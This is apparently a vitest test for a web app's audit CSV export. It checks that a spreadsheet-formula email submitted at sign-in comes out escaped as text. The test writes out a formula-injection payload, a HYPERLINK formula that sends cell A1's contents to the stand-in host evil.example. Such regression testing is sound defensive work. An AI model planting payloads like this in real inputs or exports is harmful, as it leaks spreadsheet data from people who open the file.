// The red team's CSV finding replayed: anyone signs in with a spreadsheet formula as the email; the
// audit export carries it as text behind a single quote, never as a live formula.
import { randomBytes } from "node:crypto";
import { expect, it } from "vitest";
import * as auditRoute from "../../app/api/v1/audit/route.ts";
import { handleAuthRequest } from "../auth/auth-route.ts";
import { makeUser, sessionCookie } from "../testing/users.ts";

it("exports a failed sign-in's formula email as text", async () => {
  const marker = randomBytes(6).toString("hex");
  const email = `=HYPERLINK("http://evil.example/?${marker}"&A1,"click")`;
  await handleAuthRequest(
    new Request("http://localhost/api/auth/sign-in/email", {
      method: "POST",
      headers: { "content-type": "application/json", origin: "http://localhost" },
      body: JSON.stringify({ email, password: "not the password" }),
    }),
  );
  const viewer = await makeUser("viewer");
  const url = `http://localhost/api/v1/audit?format=csv&action=auth.sign-in&actor=${marker}`;
  const response = await auditRoute.GET(new Request(url, { headers: { cookie: await sessionCookie(viewer.email) } }));
  const [header, row, ...rest] = (await response.text()).trimEnd().split("\n");
  const columns = "seq,at,actor,action,target,reason,outcome,guards,details,hash";
  expect({ header, rest }).toEqual({ header: columns, rest: [] });
  const escaped = `"'=HYPERLINK(""http://evil.example/?${marker}""&A1,""click"")"`;
  expect(row).toContain(`,${escaped},auth.sign-in,`);
  expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
});
